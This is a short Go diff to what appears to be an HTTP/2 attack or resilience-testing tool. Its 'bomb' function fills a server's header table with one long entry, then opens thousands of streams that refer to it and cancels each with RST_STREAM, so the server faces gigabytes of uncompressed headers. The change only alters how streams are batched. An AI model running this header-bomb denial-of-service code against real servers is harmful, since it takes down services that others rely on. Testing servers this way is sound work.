@@ -67,7 +67,7 @@ func onFields() []Attack {
 	}
 }
 
-// bombsAtOnce is how many streams of a bomb are opened at most before a PING, and a tenth of all if that is less.
+// bombsAtOnce is how many streams of a bomb are opened before a PING.
 const bombsAtOnce = 2_500
 
 // bomb fills the server's header table with one long entry, and opens streams that refer to it often.
@@ -81,9 +81,8 @@ func bomb(r *Run, times int) {
 	}
 	// The server answers a PING now and then, because all the fields at once, uncompressed, are gigabytes. They take a busy
 	// machine longer than a peer waits, though nothing is stuck.
-	atOnce := max(1, min(bombsAtOnce, r.N/10))
-	for begun := 0; begun < r.N && p.Flush(); begun += atOnce {
-		p.each(min(atOnce, r.N-begun), func(id uint32) {
+	for begun := 0; begun < r.N && p.Flush(); begun += bombsAtOnce {
+		p.each(min(bombsAtOnce, r.N-begun), func(id uint32) {
 			id += uint32(2*begun) + 2
 			p.Head(id, r.Cold, true, more...)
 			_ = p.Frames.WriteRSTStream(id, http2.ErrCodeCancel)
